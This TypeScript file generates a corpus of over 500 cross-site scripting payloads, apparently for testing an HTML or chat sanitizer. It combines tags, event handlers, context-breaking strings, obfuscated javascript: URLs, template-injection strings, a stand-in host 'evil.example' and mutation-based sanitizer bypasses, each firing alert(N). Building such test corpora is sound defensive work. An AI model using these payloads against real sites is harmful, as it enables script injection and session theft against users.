// Texts that run as a script if drawn as HTML: elements, events, addresses, escapes from a context,
// and alternative spellings. Each calls `alert(N)` with its own number.
const DOLLAR = '$';
const ELEMENTS = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'iframe',
    'input autofocus',
  ],
  ...[
    'select autofocus',
    'textarea autofocus',
    'marquee',
    'object data=x',
    'embed src=x',
    'math',
    'a href=x',
    'div',
  ],
];
const EVENTS = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onstart',
    'onmouseover',
    'onclick',
    'onpointerenter',
  ],
  ...['onanimationstart', 'onbeforetoggle', 'onscrollend', 'ONERROR'],
];
const BREAKS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', ']]>'];
const ADDRESSES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    'data:text/html,<script>',
    ' javascript:',
  ],
  ...['vbscript:', 'javascript&colon;', '//evil.example/?', '\u0001javascript:'],
];
const PLACES = [
  '<a href="@">x</a>',
  '<iframe src="@">',
  '[x](@)',
  '<form action="@"><button>',
  '@',
  '<object data="@">',
];
const WHOLE = [
  ...[
    '<script>alert(@)</script>',
    '<ScRiPt>alert(@)</sCrIpT>',
    '<script>alert(@)//',
    '<scr<script>ipt>alert(@)</script>',
  ],
  ...[
    '＜script＞alert(@)＜/script＞',
    '&lt;script&gt;alert(@)&lt;/script&gt;',
    '\\u003cscript\\u003ealert(@)',
    '%3Cscript%3Ealert(@)',
  ],
  ...[
    '{{constructor.constructor("alert(@)")()}}',
    `${DOLLAR}{alert(@)}`,
    '#{alert(@)}',
    '<%= alert(@) %>',
  ],
  ...[
    '<style>*{background:url(javascript:alert(@))}</style>',
    '<base href="javascript:alert(@)//">',
    '<meta http-equiv=refresh content="0;javascript:alert(@)">',
  ],
  ...[
    '<template shadowrootmode=open><script>alert(@)</script></template>',
    '<svg><animate onbegin=alert(@) attributeName=x dur=1s>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(@)>">',
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(@)&gt;">',
  ],
  ...[
    '<xss id=x tabindex=1 onfocus=alert(@)></xss>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(@)>',
  ],
];

function* payloads(): Generator<string> {
  for (const text of WHOLE) yield text;
  for (const place of PLACES) {
    for (const address of ADDRESSES) yield place.replace('@', `${address}alert(@)`);
  }
  for (const [row, element] of ELEMENTS.entries()) {
    for (const [column, event] of EVENTS.entries()) {
      for (const shift of [0, 3, 5]) {
        const out = BREAKS[(row + column + shift) % BREAKS.length];
        yield `${out}<${element} ${event}=alert(@)>`;
      }
    }
  }
}

/** More than 500 different ones, none longer than a chat message. */
export const SCRIPT_PAYLOADS: readonly string[] = [...payloads()].map((text, number) =>
  text.replaceAll('@', String(number)),
);
